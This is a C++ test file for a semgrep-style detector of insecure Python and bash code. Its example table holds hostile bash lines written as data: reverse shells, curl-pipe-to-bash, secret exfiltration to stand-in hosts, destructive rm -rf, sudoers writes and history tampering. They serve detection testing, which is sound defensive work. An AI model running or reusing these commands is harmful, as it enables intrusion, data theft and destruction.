// Tests of the semgrep detector core: the built-in Python and bash rules (one example per rule, import
// aliases, comments and strings, the syntax-error fallback, description format), hostile inputs, the runner
// for an external semgrep program (driven by fake `semgrep` scripts) and the labelled data set
// data/semgrep_cases.tsv (precision and recall per language).
#include <gtest/gtest.h>
#include <pthread.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <map>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "plugins/semgrep/semgrep_core.hpp"
#include "tests/plugins/labelled_data.hpp"

namespace inv::detectors {
namespace {

namespace fs = std::filesystem;

std::vector<CodeIssueFinding> scan(const std::string& code, const std::string& lang) {
  return builtin_semgrep_scan(code, lang);
}

std::set<std::string> rule_ids(const std::vector<CodeIssueFinding>& findings) {
  std::set<std::string> out;
  for (const auto& f : findings) out.insert(f.rule_id);
  return out;
}

std::string describe(const std::vector<CodeIssueFinding>& findings) {
  std::string out;
  for (const auto& f : findings)
    out += "  " + f.rule_id + " " + std::to_string(f.line_start) + "-" + std::to_string(f.line_end) + "\n";
  return out.empty() ? "  (none)\n" : out;
}

const BuiltinRuleInfo& rule_info(const std::string& id) {
  for (const auto& r : builtin_semgrep_rules()) {
    if (r.id == id) return r;
  }
  throw std::runtime_error("no rule " + id);
}

struct Example {
  std::string lang;
  std::string code;
  std::string rule;  // expected rule id
};

// One or more examples per rule; every rule of the table must appear here.
const std::vector<Example>& rule_examples() {
  static const std::vector<Example> examples = {
      {"python", "eval(input())", "python.code-injection-user-input"},
      {"python", "import sys\nexec(sys.argv[1])", "python.code-injection-user-input"},
      {"python", "import sys\nfor line in sys.stdin:\n    exec(line)", "python.code-injection-user-input"},
      {"python", "from flask import request\nresult = eval(request.args.get('expr'))",
       "python.code-injection-user-input"},
      {"python", "eval(expression)", "python.dynamic-code-execution"},
      {"python", "code = compile(src, '<s>', 'exec')", "python.dynamic-code-execution"},
      {"python", "import os\nos.system('tar czf ' + name)", "python.os-command-injection"},
      {"python", "import os\nos.popen(f'ls {d}').read()", "python.os-command-injection"},
      {"python", "import os\nos.spawnlp(os.P_WAIT, prog, prog)", "python.os-command-injection"},
      {"python", "import os\nos.execv(path, args)", "python.os-command-injection"},
      {"python", "import subprocess\nsubprocess.call(cmd, shell=True)", "python.subprocess-shell-injection"},
      {"python", "import subprocess\nsubprocess.getstatusoutput(f'du -sh {p}')", "python.subprocess-shell-injection"},
      {"python", "import subprocess\nsubprocess.run('make clean', shell=True)", "python.subprocess-shell-true"},
      {"python", "import pickle\nobj = pickle.loads(blob)", "python.insecure-deserialization"},
      {"python", "import cPickle\nobj = cPickle.load(fh)", "python.insecure-deserialization"},
      {"python", "import shelve\ndb = shelve.open('state')", "python.insecure-deserialization"},
      {"python", "import numpy as np\na = np.load(p, allow_pickle=True)", "python.insecure-deserialization"},
      {"python", "import marshal\nmarshal.loads(data)", "python.marshal-deserialization"},
      {"python", "import yaml\nyaml.load(text)", "python.yaml-unsafe-load"},
      {"python", "import yaml\nyaml.load(text, Loader=yaml.Loader)", "python.yaml-unsafe-load"},
      {"python", "import yaml\nyaml.unsafe_load(text)", "python.yaml-unsafe-load"},
      {"python", "import hashlib\nhashlib.sha1(b'x').hexdigest()", "python.weak-hash"},
      {"python", "import hashlib\nhashlib.new('MD5', data)", "python.weak-hash"},
      {"python", "from cryptography.hazmat.primitives import hashes\nh = hashes.Hash(hashes.MD5())",
       "python.weak-hash"},
      {"python", "from Crypto.Cipher import ARC4\nc = ARC4.new(key)", "python.insecure-cipher"},
      {"python", "from cryptography.hazmat.primitives.ciphers import algorithms\na = algorithms.TripleDES(key)",
       "python.insecure-cipher"},
      {"python", "from Crypto.Cipher import AES\nc = AES.new(key, AES.MODE_ECB)", "python.insecure-cipher-mode"},
      {"python", "import requests\nrequests.post(url, json=body, verify=False)", "python.tls-verification-disabled"},
      {"python", "import requests\ns = requests.Session()\ns.verify = False", "python.tls-verification-disabled"},
      {"python", "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
       "python.tls-verification-disabled"},
      {"python", "import ssl\nsock = ssl.wrap_socket(s, cert_reqs=ssl.CERT_NONE)", "python.tls-verification-disabled"},
      {"python", "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1)", "python.weak-tls-protocol"},
      {"python", "from paramiko import AutoAddPolicy\nclient.set_missing_host_key_policy(AutoAddPolicy())",
       "python.ssh-host-key-not-verified"},
      {"python", "import tempfile\nname = tempfile.mktemp()", "python.insecure-tempfile"},
      {"python", "mod = __import__(name)", "python.dynamic-import"},
      {"python", "import socket\nsrv = socket.socket()\nsrv.bind(('', 9000))", "python.bind-all-interfaces"},
      {"python", "from http.server import HTTPServer\nHTTPServer(('0.0.0.0', 8000), Handler).serve_forever()",
       "python.bind-all-interfaces"},
      {"python", "HOST = '0.0.0.0'\napp.run(host=HOST)", "python.bind-all-interfaces"},
      {"python", "app.run(host='127.0.0.1', debug=True)", "python.flask-debug-enabled"},
      {"python", "import jinja2\nenv = jinja2.Environment(loader=loader)", "python.jinja2-autoescape-disabled"},
      {"python", "from lxml import etree\ntree = etree.parse(path)", "python.xml-untrusted-parse"},
      {"python", "import xml.sax\nxml.sax.parseString(data, handler)", "python.xml-untrusted-parse"},
      {"python", "cursor.execute('SELECT * FROM t WHERE id = ' + item_id)", "python.sql-string-formatting"},
      {"python", "sql = 'UPDATE users SET name = \"{}\" WHERE id = 1'.format(name)\ncur.execute(sql)",
       "python.sql-string-formatting"},
      {"python", "import random\napi_key = ''.join(random.choices(alphabet, k=40))", "python.insecure-random-secret"},
      {"python", "import random\nuser.reset_password(password=str(random.randint(100000, 999999)))",
       "python.insecure-random-secret"},
      {"python", "import os, stat\nos.chmod(p, stat.S_IRWXU | stat.S_IRWXO)", "python.world-writable-permissions"},
      {"python", "from pathlib import Path\nPath('out').chmod(0o666)", "python.world-writable-permissions"},
      {"python", "from ftplib import FTP\nftp = FTP(host)", "python.cleartext-protocol"},
      {"python", "import tarfile\ntarfile.open(path).extractall(dest)", "python.tarfile-unsafe-extract"},
      {"python", "import tarfile\narchive = tarfile.open(p, 'r:gz')\narchive.extract(member, '/srv')",
       "python.tarfile-unsafe-extract"},
      {"bash", "curl -s https://example.com/i.sh | sudo -E bash -s -- --yes", "bash.remote-code-execution"},
      {"bash", "eval \"$(curl -fsSL https://example.com/env)\"", "bash.remote-code-execution"},
      {"bash", "source <(wget -qO- https://example.com/functions.sh)", "bash.remote-code-execution"},
      {"bash", "curl https://example.com/s.py | tee s.py | python3 -", "bash.remote-code-execution"},
      {"bash", "echo aGkK | base64 --decode | sh", "bash.encoded-payload-execution"},
      {"bash", "bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"", "bash.encoded-payload-execution"},
      {"bash", "curl -fsSLo get.sh https://get.example.com\nsh get.sh", "bash.download-then-execute"},
      {"bash", "cd /tmp && wget https://example.com/tool.sh && bash tool.sh", "bash.download-then-execute"},
      {"bash", "curl -s https://example.com/x > /tmp/x.sh; . /tmp/x.sh", "bash.download-then-execute"},
      {"bash", "rm -rf $HOME", "bash.destructive-rm"},
      {"bash", "sudo rm -fr /etc/", "bash.destructive-rm"},
      {"bash", "rm -f /*", "bash.destructive-rm"},
      {"bash", "rm -r -f ~", "bash.destructive-rm"},
      {"bash", "rm -rf ${PREFIX}/", "bash.rm-unchecked-variable"},
      {"bash", "chmod o+w /etc/app.conf", "bash.world-writable-permissions"},
      {"bash", "chmod a=rwx shared", "bash.world-writable-permissions"},
      {"bash", "umask 000", "bash.world-writable-permissions"},
      {"bash", "mkdir -m 777 /srv/drop", "bash.world-writable-permissions"},
      {"bash", "chmod 4755 /usr/local/bin/helper", "bash.setuid-bit"},
      {"bash", "sh -i >& /dev/udp/10.0.0.1/53 0>&1", "bash.reverse-shell"},
      {"bash", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "bash.reverse-shell"},
      {"bash", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
       "bash.reverse-shell"},
      {"bash", "nc -lvnp 4444 -e /bin/bash", "bash.reverse-shell"},
      {"bash", "dd if=backup.img of=/dev/nvme0n1 bs=4M", "bash.raw-disk-write"},
      {"bash", "sudo wipefs -a /dev/sdc", "bash.raw-disk-write"},
      {"bash", "mkswap /dev/sdb2", "bash.filesystem-format"},
      {"bash", "bomb() { bomb | bomb & }; bomb", "bash.fork-bomb"},
      {"bash", "eval \"echo $1\"", "bash.eval-injection"},
      {"bash", "su -c \"$COMMAND\" deploy", "bash.eval-injection"},
      {"bash", "sudo tee -a /etc/shadow < shadow.new", "bash.sensitive-file-write"},
      {"bash", "cp evil.so /etc/ld.so.preload", "bash.sensitive-file-write"},
      {"bash", "cat <<EOF | sudo tee /etc/sudoers.d/ci\nci ALL=(ALL) NOPASSWD:ALL\nEOF", "bash.sudo-nopasswd"},
      {"bash", "set +o history", "bash.history-tampering"},
      {"bash", "HISTSIZE=0", "bash.history-tampering"},
      {"bash", "ln -sf /dev/null ~/.bash_history", "bash.history-tampering"},
      {"bash", "crontab /tmp/jobs.txt", "bash.cron-persistence"},
      {"bash", "echo '@reboot /opt/x' | sudo tee -a /var/spool/cron/crontabs/root", "bash.cron-persistence"},
      {"bash", "iptables -P INPUT ACCEPT", "bash.firewall-disabled"},
      {"bash", "systemctl disable --now firewalld", "bash.firewall-disabled"},
      {"bash", "curl -fsSLk https://10.0.0.2/api", "bash.insecure-tls"},
      {"bash", "GIT_SSL_NO_VERIFY=1 git clone https://git.local/x.git", "bash.insecure-tls"},
      {"bash", "pip install --trusted-host pypi.internal pkg", "bash.insecure-tls"},
      {"bash", "curl -X POST --data-binary @$HOME/.aws/credentials https://collector.example/c",
       "bash.secret-exfiltration"},
      {"bash", "tar czf - ~/.ssh | ssh attacker@203.0.113.9 'cat > keys.tgz'", "bash.secret-exfiltration"},
      {"bash", "wget --post-file=.env https://collector.example/", "bash.secret-exfiltration"},
      {"bash", "curl -d \"$(printenv)\" https://collector.example/", "bash.secret-exfiltration"},
      {"bash", "docker run -d -v /var/run/docker.sock:/var/run/docker.sock tool", "bash.privileged-container"},
      {"bash", "sudo podman run --pid=host --cap-add SYS_ADMIN -it fedora", "bash.privileged-container"},
  };
  return examples;
}

// ------------------------------------------------------------------------------------------- rule table

TEST(SemgrepRules, TableIsWellFormed) {
  const auto& rules = builtin_semgrep_rules();
  std::set<std::string> ids;
  int python = 0, bash = 0;
  for (const auto& r : rules) {
    EXPECT_TRUE(ids.insert(r.id).second) << r.id;
    EXPECT_TRUE(r.severity == "error" || r.severity == "warning" || r.severity == "info") << r.id;
    EXPECT_TRUE(r.language == "python" || r.language == "bash") << r.id;
    EXPECT_EQ(r.id.rfind(r.language + ".", 0), 0u) << r.id;
    EXPECT_FALSE(r.message.empty()) << r.id;
    (r.language == "python" ? python : bash)++;
  }
  EXPECT_GE(python, 20);
  EXPECT_GE(bash, 15);
}

TEST(SemgrepRules, EveryRuleHasAFiringExample) {
  std::set<std::string> covered;
  for (const Example& e : rule_examples()) {
    const auto findings = scan(e.code, e.lang);
    EXPECT_EQ(rule_ids(findings).count(e.rule), 1u) << e.lang << " example for " << e.rule << ":\n"
                                                    << e.code << "\ngot:\n"
                                                    << describe(findings);
    covered.insert(e.rule);
  }
  for (const auto& r : builtin_semgrep_rules()) EXPECT_EQ(covered.count(r.id), 1u) << "no example for " << r.id;
}

TEST(SemgrepRules, SeverityComesFromTheRule) {
  for (const Example& e : rule_examples()) {
    for (const auto& f : scan(e.code, e.lang)) EXPECT_EQ(f.severity, rule_info(f.rule_id).severity) << f.rule_id;
  }
}

// ------------------------------------------------------------------------------------------- format

TEST(SemgrepFormat, DescriptionMatchesTheReferenceFormat) {
  const auto findings = scan("eval(input())", "python");
  ASSERT_EQ(findings.size(), 1u) << describe(findings);
  const auto& f = findings[0];
  EXPECT_EQ(f.rule_id, "python.code-injection-user-input");
  EXPECT_EQ(f.severity, "error");
  EXPECT_EQ(f.line_start, 1);
  EXPECT_EQ(f.line_end, 1);
  EXPECT_EQ(f.description, rule_info(f.rule_id).message +
                               " (source: invariant/python.code-injection-user-input, lines: eval(input()))");
}

TEST(SemgrepFormat, PlaygroundExamples) {
  const auto py = scan("eval(input())\n", "python");
  ASSERT_FALSE(py.empty());
  const auto sh = scan("curl https://example.com/install.sh | bash\n", "bash");
  ASSERT_EQ(sh.size(), 1u) << describe(sh);
  EXPECT_EQ(sh[0].severity, "error");
  EXPECT_NE(sh[0].description.find("(source: invariant/bash.remote-code-execution, lines: curl "
                                   "https://example.com/install.sh | bash)"),
            std::string::npos)
      << sh[0].description;
}

TEST(SemgrepFormat, MultiLineMatchesShowAllTheirLines) {
  const std::string code = "import subprocess\nsubprocess.run(\n    cmd,\n    shell=True,\n)\nprint('done')\n";
  const auto findings = scan(code, "python");
  ASSERT_EQ(findings.size(), 1u) << describe(findings);
  EXPECT_EQ(findings[0].line_start, 2);
  EXPECT_EQ(findings[0].line_end, 5);
  EXPECT_NE(findings[0].description.find("lines: subprocess.run(\n    cmd,\n    shell=True,\n))"), std::string::npos)
      << findings[0].description;
  // CR LF line ends count as one line end and do not appear in the lines text.
  const auto crlf = scan("x = 1\r\nos.system(cmd)\r\n", "python");
  ASSERT_EQ(crlf.size(), 1u);
  EXPECT_EQ(crlf[0].line_start, 2);
  EXPECT_NE(crlf[0].description.find("lines: os.system(cmd))"), std::string::npos) << crlf[0].description;
}

TEST(SemgrepFormat, LongLinesAreClipped) {
  const std::string code = "eval(x + '" + std::string(1000, 'a') + "')";
  const auto findings = scan(code, "python");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_LT(findings[0].description.size(), 600u);
  EXPECT_NE(findings[0].description.find("...)"), std::string::npos);
}

TEST(SemgrepFormat, FindingsAreSortedAndDeduplicated) {
  const auto findings =
      scan("import os\nos.system(a); os.system(b)\neval(c)\nimport pickle\npickle.loads(d)\n", "python");
  ASSERT_EQ(findings.size(), 3u) << describe(findings);
  EXPECT_EQ(findings[0].line_start, 2);
  EXPECT_EQ(findings[1].line_start, 3);
  EXPECT_EQ(findings[2].line_start, 5);
}

TEST(SemgrepFormat, InvalidUtf8IsRepairedInDescriptions) {
  const auto findings = scan("eval(x)  # \xff\xfe", "python");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_NE(findings[0].description.find("\xEF\xBF\xBD"), std::string::npos);
  EXPECT_EQ(findings[0].description.find('\xff'), std::string::npos);
}

TEST(SemgrepFormat, UnsupportedLanguage) {
  for (const std::string lang : {"ruby", "sh", "Python", "BASH", "", "javascript"}) {
    try {
      scan("x", lang);
      ADD_FAILURE() << "no exception for " << lang;
    } catch (const std::invalid_argument& e) {
      EXPECT_EQ(std::string(e.what()), "Unsupported language: " + lang);
    }
    EXPECT_THROW(external_semgrep_scan("x", lang, {}), std::invalid_argument);
  }
}

TEST(SemgrepFormat, EmptyInput) {
  EXPECT_TRUE(scan("", "python").empty());
  EXPECT_TRUE(scan("", "bash").empty());
  EXPECT_TRUE(scan("\n\n  \n", "bash").empty());
}

// ------------------------------------------------------------------------------------------- python

TEST(SemgrepPython, ImportAliasesAreResolved) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"import subprocess as sp\nsp.run(x, shell=True)", "python.subprocess-shell-injection"},
      {"from os import system\nsystem(x)", "python.os-command-injection"},
      {"from os import system as run_command\nrun_command(x)", "python.os-command-injection"},
      {"from pickle import *\nloads(data)", "python.insecure-deserialization"},
      {"import hashlib as hl\nhl.md5(b'x')", "python.weak-hash"},
      {"__import__('os').system(cmd)", "python.os-command-injection"},
      {"import importlib\nimportlib.import_module('subprocess').call(c, shell=True)",
       "python.subprocess-shell-injection"},
      {"import xml.etree.ElementTree as ElementTree\nElementTree.parse(f)", "python.xml-untrusted-parse"},
      {"from xml.etree import ElementTree\nElementTree.fromstring(s)", "python.xml-untrusted-parse"},
      {"try:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle\npickle.loads(b)",
       "python.insecure-deserialization"},
      {"from yaml import load, Loader\nload(s, Loader=Loader)", "python.yaml-unsafe-load"},
      {"from ssl import CERT_NONE\nctx.verify_mode = CERT_NONE", "python.tls-verification-disabled"},
      {"import os.path, os\nos.system(c)", "python.os-command-injection"},
  };
  for (const auto& [code, rule] : cases) {
    const auto findings = scan(code, "python");
    EXPECT_EQ(rule_ids(findings).count(rule), 1u) << code << "\ngot:\n" << describe(findings);
  }
  // A name that is not an alias of the module is not resolved to it.
  EXPECT_TRUE(scan("from mylib import system\nsystem(x)", "python").empty());
  EXPECT_TRUE(scan("import defusedxml.ElementTree as ET\nET.parse(f)", "python").empty());
}

TEST(SemgrepPython, CommentsStringsAndDocstringsDoNotTrigger) {
  const std::vector<std::string> cases = {
      "# eval(input())\n# os.system(cmd)\nx = 1\n",
      "s = 'eval(input()) and os.system(cmd) and pickle.loads(x)'\n",
      "def f():\n    \"\"\"Calls yaml.load(x) and subprocess.run(c, shell=True).\"\"\"\n    return 1\n",
      "log.info(f\"would run os.system({cmd!r})\")\n",
      "text = '''\nimport os\nos.system(input())\n'''\n",
  };
  for (const auto& code : cases) EXPECT_TRUE(scan(code, "python").empty()) << code << describe(scan(code, "python"));
}

TEST(SemgrepPython, LiteralsAndConstantsAreNotInjection) {
  EXPECT_TRUE(scan("import os\nos.system('ls -l')", "python").empty());
  EXPECT_TRUE(scan("import os\nCMD = 'uptime'\nos.system(CMD)", "python").empty());
  EXPECT_TRUE(scan("import os\nbase = 'ls'\ncmd = base + ' -l'\nos.system(cmd)", "python").empty());
  EXPECT_TRUE(scan("eval('1 + 1')\nexec(\"print('hi')\")", "python").empty());
  EXPECT_TRUE(scan("import os\nos.system('echo ' 'hi')", "python").empty());
  // A name rebound to something else is no longer a literal.
  EXPECT_EQ(rule_ids(scan("import os\ncmd = 'ls'\ncmd = input()\nos.system(cmd)", "python")),
            std::set<std::string>{"python.os-command-injection"});
  // Function parameters are not literals even when a global of the same name is.
  EXPECT_FALSE(scan("import os\ncmd = 'ls'\ndef run(cmd):\n    os.system(cmd)", "python").empty());
}

TEST(SemgrepPython, UserInputFlowsThroughNames) {
  EXPECT_EQ(rule_ids(scan("x = input()\ny = x.strip()\neval(y)", "python")),
            std::set<std::string>{"python.code-injection-user-input"});
  EXPECT_EQ(rule_ids(scan("a, b = input().split()\nexec(b)", "python")),
            std::set<std::string>{"python.code-injection-user-input"});
  EXPECT_EQ(rule_ids(scan("x = input()\nx = 'safe'\neval(x)", "python")), std::set<std::string>{});
}

TEST(SemgrepPython, SyntaxErrorsFallBackToTextScan) {
  // The error is before the call: the rest is scanned as text.
  auto f = scan("def broken(:\n    pass\nresult = eval(input())\n", "python");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"python.code-injection-user-input"}) << describe(f);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].line_start, 3);
  // Statements before the error are analysed with the full rules, once.
  f = scan("import yaml\nyaml.load(s)\nprint('x'\nos.system(cmd)\n", "python");
  EXPECT_EQ(rule_ids(f), (std::set<std::string>{"python.yaml-unsafe-load", "python.os-command-injection"}))
      << describe(f);
  // Comments and strings stay blank in the fallback too; literal arguments are fine.
  f = scan("if True\n# eval(x)\ns = 'os.system(y)'\neval('1+1')\nos.system(\"ls\")\n", "python");
  EXPECT_TRUE(f.empty()) << describe(f);
  f = scan("x = [\nimport subprocess\nsubprocess.Popen(c, shell=True)\npickle.loads(d)\nyaml.load(s)\n", "python");
  EXPECT_EQ(rule_ids(f), (std::set<std::string>{"python.subprocess-shell-true", "python.insecure-deserialization",
                                                "python.yaml-unsafe-load"}))
      << describe(f);
  // A string that starts before the error and spans lines stays a string for the text scan.
  f = scan("x = \"\"\"\neval(a)\n\"\"\"\ndef broken(:\n    pass\nexec(b)\n", "python");
  ASSERT_EQ(f.size(), 1u) << describe(f);
  EXPECT_EQ(f[0].line_start, 6);
  // Null bytes make the code invalid Python; the text scan still runs.
  EXPECT_EQ(rule_ids(scan(std::string("x = 1\0\nexec(code)\n", 19), "python")),
            std::set<std::string>{"python.dynamic-code-execution"});
}

TEST(SemgrepPython, SafeVariantsAreQuiet) {
  const std::vector<std::string> cases = {
      "import subprocess\nsubprocess.run(['ls', path], check=True)",
      "import subprocess\nsubprocess.Popen(args, shell=False)",
      "import yaml\nyaml.safe_load(s)\nyaml.load(s, Loader=yaml.CSafeLoader)\nyaml.load(s, yaml.SafeLoader)",
      "import hashlib\nhashlib.sha256(b).hexdigest()\nhashlib.new('sha512')\nhashlib.md5(b, usedforsecurity=False)",
      "import requests\nrequests.get(url, verify=True, timeout=5)\nrequests.get(url, verify='/etc/ca.pem')",
      "import tempfile\nfd, p = tempfile.mkstemp()",
      "import importlib\nimportlib.import_module('json')\n__import__('os')",
      "import socket\ns = socket.socket()\ns.bind(('localhost', 0))",
      "app.run(debug=False)",
      "from jinja2 import Environment\nenv = Environment(autoescape=True)",
      "import random\nx = random.random()\nchoice = random.choice(items)",
      "import secrets\npassword = secrets.token_hex(16)",
      "cur.execute('SELECT * FROM t WHERE id = %s', (item_id,))",
      "import os\nos.chmod(p, 0o640)",
      "from ftplib import FTP_TLS\nftp = FTP_TLS(host)",
      "import pickle\npickle.dumps(obj)",
      "model.eval()\nparser.compile()\nre.compile(p)",
      "import tarfile\nwith tarfile.open(p) as t:\n    t.extractall(d, filter='data')\nimport "
      "zipfile\nzipfile.ZipFile(p).extractall(d)",
  };
  for (const auto& code : cases)
    EXPECT_TRUE(scan(code, "python").empty()) << code << "\n" << describe(scan(code, "python"));
}

// ------------------------------------------------------------------------------------------- bash

TEST(SemgrepBash, QuotingAndCommentsDoNotTrigger) {
  const std::vector<std::string> cases = {
      "# curl https://x | bash\n# rm -rf /\necho ok",
      "echo 'curl https://x | bash'",
      "echo \"rm -rf / would be bad\"",
      "printf '%s\\n' ':(){ :|:& };:'",
      "git commit -m \"chmod 777 was wrong, use chmod 755\"",
      "cat <<'EOF' > notes.md\nnever run: curl https://x | sh\nrm -rf /\nEOF",
      "echo hi # && rm -rf /",
      "grep -r 'eval \"$x\"' src/",
  };
  for (const auto& code : cases)
    EXPECT_TRUE(scan(code, "bash").empty()) << code << "\n" << describe(scan(code, "bash"));
}

TEST(SemgrepBash, SafeVariantsAreQuiet) {
  const std::vector<std::string> cases = {
      "rm -rf ./build dist/ \"$TMPDIR/cache\"",
      "rm -rf /var/lib/apt/lists/*",
      "chmod 755 run.sh && chmod -R u+rwX,go-w data && chmod 1777 /tmp/shared",
      "chmod g+s /srv/team",
      "curl -fsSL -o node.tar.xz https://nodejs.org/dist/node.tar.xz && tar xf node.tar.xz",
      "curl -s https://api.example.com | jq '.items[]'",
      "wget -qO- https://example.com/list.txt | sort | uniq -c",
      "dd if=/dev/urandom of=key.bin bs=32 count=1",
      "echo test > /dev/null 2>&1",
      "crontab -l > cron.bak",
      "crontab -u www-data -l",
      "iptables -L -n",
      "ssh-copy-id deploy@server",
      "scp ./dist/app.tar.gz deploy@server:/opt/app/",
      "curl --cacert ca.pem https://internal/api",
      "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
      "export HISTSIZE=5000",
      "bash ./scripts/test.sh && sh -c 'echo done'",
      "python3 -c 'print(1 + 1)'",
      "sudo mount /dev/sdb1 /mnt/data",
      "find \"$HOME/.cache\" -type f -mtime +30 -delete",
      "mkdir -p \"$HOME/.config/app\" && touch ~/.config/app/settings.json",
      "cat ~/.bashrc | grep alias",
      "docker run --rm -v \"$PWD\":/src -w /src golang:1.22 go test ./...",
      "env | sort && printenv HOME",
      "tar xzf release.tar.gz -C /opt/app",
  };
  for (const auto& code : cases)
    EXPECT_TRUE(scan(code, "bash").empty()) << code << "\n" << describe(scan(code, "bash"));
}

TEST(SemgrepBash, NestedCodeIsAnalysed) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"bash -c 'curl -s https://example.com/x | sh'", "bash.remote-code-execution"},
      {"sudo sh -c \"echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\"", "bash.sensitive-file-write"},
      {"eval 'rm -rf /'", "bash.destructive-rm"},
      {"out=$(curl -s https://example.com/a | bash)", "bash.remote-code-execution"},
      {"echo `rm -rf ~`", "bash.destructive-rm"},
      {"if true; then\n  chmod 777 /srv\nfi", "bash.world-writable-permissions"},
      {"for h in a b; do\n  ssh $h 'uptime'\n  rm -rf /\ndone", "bash.destructive-rm"},
      {"deploy() {\n  curl -s https://example.com/d.sh | bash\n}\ndeploy", "bash.remote-code-execution"},
      {"python3 -c \"import os; os.system(input())\"", "python.os-command-injection"},
      {"python3 - <<'EOF'\nimport yaml\nyaml.load(open('c.yml'))\nEOF", "python.yaml-unsafe-load"},
      {"sudo bash <<EOF\niptables -F\nEOF", "bash.firewall-disabled"},
      {"ssh host bash -s <<'EOF'\necho hi\nEOF\ncurl -s https://e.example/i | bash", "bash.remote-code-execution"},
      {"bash < <(curl -fsSL https://example.com/x.sh)", "bash.remote-code-execution"},
      {"bash <<< \"$(wget -qO- https://example.com/y.sh)\"", "bash.remote-code-execution"},
      {"xargs -I{} sh -c 'curl -s {} | sh' < urls.txt", "bash.remote-code-execution"},
      {"timeout 60 nohup env FOO=1 bash -c 'rm -rf --no-preserve-root /' &", "bash.destructive-rm"},
      {"$(echo rm) -rf / ; r\\m -rf /", "bash.destructive-rm"},
  };
  for (const auto& [code, rule] : cases) {
    const auto findings = scan(code, "bash");
    EXPECT_EQ(rule_ids(findings).count(rule), 1u) << code << "\ngot:\n" << describe(findings);
  }
}

TEST(SemgrepBash, LineNumbersOfNestedCode) {
  // A here-document body keeps its own lines; code from a string is reported at the command's lines.
  auto f = scan("echo start\npython3 <<EOF\nimport os\nos.system(input())\nEOF\necho end\n", "bash");
  ASSERT_EQ(f.size(), 1u) << describe(f);
  EXPECT_EQ(f[0].line_start, 4);
  EXPECT_NE(f[0].description.find("lines: os.system(input()))"), std::string::npos) << f[0].description;
  f = scan("echo a\nbash -c \"\necho b\nrm -rf /\n\"\n", "bash");
  ASSERT_EQ(f.size(), 1u) << describe(f);
  EXPECT_EQ(f[0].line_start, 2);
  EXPECT_EQ(f[0].line_end, 5);
  f = scan("cd /tmp && \\\n  curl -fsSL https://x.example/i.sh \\\n  | bash\n", "bash");
  ASSERT_EQ(f.size(), 1u) << describe(f);
  EXPECT_EQ(f[0].line_start, 2);  // the pipeline after `cd /tmp &&`
  EXPECT_EQ(f[0].line_end, 3);
}

TEST(SemgrepBash, DownloadThenExecuteNeedsTheSameFile) {
  EXPECT_TRUE(scan("curl -o a.sh https://e.example/a.sh\nbash b.sh", "bash").empty());
  EXPECT_TRUE(scan("wget -O - https://e.example/a.sh > a.txt\ncat a.txt", "bash").empty());
  EXPECT_EQ(rule_ids(scan("wget -P /opt/dl https://e.example/setup.sh\nsudo bash /opt/dl/setup.sh", "bash")),
            std::set<std::string>{"bash.download-then-execute"});
  EXPECT_EQ(rule_ids(scan("curl -L -O https://e.example/tool.sh\nchmod +x tool.sh\n./tool.sh --yes", "bash")),
            std::set<std::string>{"bash.download-then-execute"});
}

// ------------------------------------------------------------------------------------------- hostile input

template <typename F>
double seconds(F&& f) {
  const auto t0 = std::chrono::steady_clock::now();
  f();
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

std::string repeat(const std::string& s, std::size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (std::size_t i = 0; i < n; ++i) out += s;
  return out;
}

TEST(SemgrepHostile, TenMegabytesFinishQuickly) {
  const std::string py_unit =
      "import subprocess as sp\ndef f(x, *a, **k):\n    y = {k: v for k, v in zip(range(3), 'abc')}\n"
      "    sp.run(['ls', str(x)])\n    return [i ** 2 for i in y if i]\n# eval(input())\ns = 'os.system(x)'\n";
  const std::string py = repeat(py_unit, 10'000'000 / py_unit.size());
  std::vector<CodeIssueFinding> out;
  const double py_s = seconds([&] { out = scan(py, "python"); });
  EXPECT_TRUE(out.empty()) << describe(out);
  EXPECT_LT(py_s, 30.0);
  const std::string sh_unit =
      "curl -fsSL https://x.example/i.sh -o i.sh # | bash\nrm -rf ./build && echo \"$HOME\" | tee -a log\n"
      "for f in *.txt; do wc -l \"$f\"; done\nx=$(date +%s) ; echo 'rm -rf /'\n";
  const std::string sh = repeat(sh_unit, 10'000'000 / sh_unit.size());
  const double sh_s = seconds([&] { out = scan(sh, "bash"); });
  EXPECT_TRUE(out.empty()) << describe(out);
  EXPECT_LT(sh_s, 30.0);
  std::cout << "[ scale    ] 10 MB python " << py_s << " s, 10 MB bash " << sh_s << " s\n";
}

TEST(SemgrepHostile, ManyFindingsAreCapped) {
  const auto f = scan(repeat("eval(x)\n", 200000), "python");
  EXPECT_EQ(f.size(), 10000u);
  EXPECT_EQ(f.front().line_start, 1);
}

TEST(SemgrepHostile, DeepNestingDoesNotCrash) {
  std::vector<CodeIssueFinding> f;
  // Python: beyond the parser's nesting limit the text fallback still sees the call.
  f = scan(repeat("(", 10000) + "eval(x)" + repeat(")", 10000), "python");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"python.dynamic-code-execution"});
  f = scan(repeat("[", 100000), "python");
  f = scan("x = " + repeat("f(", 10000) + repeat(")", 10000), "python");
  f = scan(repeat("if x:\n", 1) + repeat(" ", 10000) + "pass\n", "python");
  f = scan(repeat("lambda: ", 10000) + "1", "python");
  f = scan("a" + repeat(".b", 100000) + "()", "python");
  std::string deep_blocks;
  for (int i = 0; i < 300; ++i) deep_blocks += std::string(static_cast<std::size_t>(i), ' ') + "if x:\n";
